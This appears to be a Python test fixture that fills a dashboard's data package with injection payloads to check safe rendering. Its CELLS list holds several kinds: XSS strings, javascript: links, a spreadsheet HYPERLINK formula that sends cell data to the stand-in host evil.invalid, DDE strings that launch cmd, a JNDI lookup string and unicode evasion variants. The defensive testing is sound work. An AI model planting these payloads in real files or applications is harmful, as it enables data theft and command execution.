"""A copy of the data package in which every free text is an attack, and which still fits its schemas.

Control characters and line breaks are not included: `dashboard.tables.cells` refuses them.
"""

import csv
import json
import shutil
from pathlib import Path

from dashboard import tables

MARK = "__pwned"  # property of window that any of these scripts sets
HOST = "evil.invalid"  # host of all these addresses
CELLS = (
    f"<img src=x onerror=\"window.{MARK}='img'\">",
    f"<script>window.{MARK}='script'</script>",
    f"\"'></textarea></title><svg onload=\"window.{MARK}='svg'\">",
    f"[x](javascript:window.{MARK}=1) [y]: javascript:alert(1)",
    f"![x](https://{HOST}/x.png) <https://{HOST}/a> https://{HOST}/b",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe><style>body{{display:none}}</style>',
    f'<a href="https://{HOST}/c">x</a><br><b>y</b>&lt;script&gt;&#0;&amp;',
    "# heading",
    "- list",
    "```code``` | a | b |",
    "$\\frac{1}{0}$ $$\\href{javascript:alert(1)}{x}$$ :red[x] :material/home: :smile: ~~s~~ `c`",
    "{0} {count} {} %s %(x)s %{customdata} %{x:.2f} ${jndi:ldap} {{x}}",
    f'=HYPERLINK("https://{HOST}/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    " =1+1",
    "\uff1d1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b+cmd|' /C calc'!A0",
    "\ufeff\u3000@SUM(A1:A9)",
    "x;=1+1;y",
    "\u202eright to left\u202c \u05d0\u05d1\u05d2 \u0627\u0644\u0633\u0644\u0627\u0645 \u2067x",
    "long " * 400,
    "x" * 2000,
    "nan",
    "None",
    "-1e309",
    "\u200b",
    "\ufeffx",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 20,
    "\\",
    "'",
    '"',
    ";;;",
)


def package(folder: Path, turn: int = 0) -> Path:
    """Copy the package into a folder and fill its free text; another `turn` puts other attacks into each cell."""
    shutil.copytree(tables.directory(), folder)
    resources = json.loads((folder / tables.PACKAGE).read_text(encoding="utf-8"))["resources"]
    for table, resource in enumerate(resource for resource in resources if "schema" in resource):
        _fill(folder / resource["path"], free(resource), turn + 7 * table)
    return folder


def free(resource: dict[str, object]) -> list[str]:
    """Columns of a table that may hold any text."""
    schema = resource["schema"]
    assert isinstance(schema, dict)
    bound = {"categories", "enum", "pattern", "maxLength"}
    return [
        field["name"]
        for field in schema["fields"]
        if field["type"] == "string" and not bound & {*field, *field.get("constraints", {})}
    ]


def _fill(path: Path, columns: list[str], turn: int) -> None:
    with path.open(encoding="utf-8", newline="") as file:
        reader = csv.DictReader(file)
        names, rows = list(reader.fieldnames or ()), list(reader)
    for number, row in enumerate(rows):
        row.update({column: CELLS[(number + 5 * place + turn) % len(CELLS)] for place, column in enumerate(columns)})
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, names, lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)
